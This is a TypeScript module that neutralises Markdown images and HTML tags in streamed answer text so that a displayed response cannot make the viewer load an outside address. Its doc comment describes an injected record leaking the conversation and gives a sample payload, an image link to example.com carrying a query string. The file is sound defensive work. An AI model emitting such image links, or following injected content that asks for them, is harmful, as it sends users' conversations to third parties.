/** The beginning of an image, and of an HTML tag or comment. */
const active = /!(?=\[)|<(?=[a-z/!?])/gi;

/**
 * A text that comes in pieces, as Markdown that loads nothing. A record could otherwise make the program that shows an
 * answer fetch an address, and tell the conversation to it: `![](https://example.com/?q=…)` (SEC-5).
 */
export class InertMarkdown {
  #held = "";

  add(piece: string): string {
    const text = this.#held + piece;
    // Whether these begin something is known with the next character.
    const isOpen = text.endsWith("!") || text.endsWith("<");
    this.#held = isOpen ? text.slice(-1) : "";
    return (isOpen ? text.slice(0, -1) : text).replace(active, (start) => (start === "!" ? "! " : "‹"));
  }

  rest(): string {
    const held = this.#held;
    this.#held = "";
    return held;
  }
}
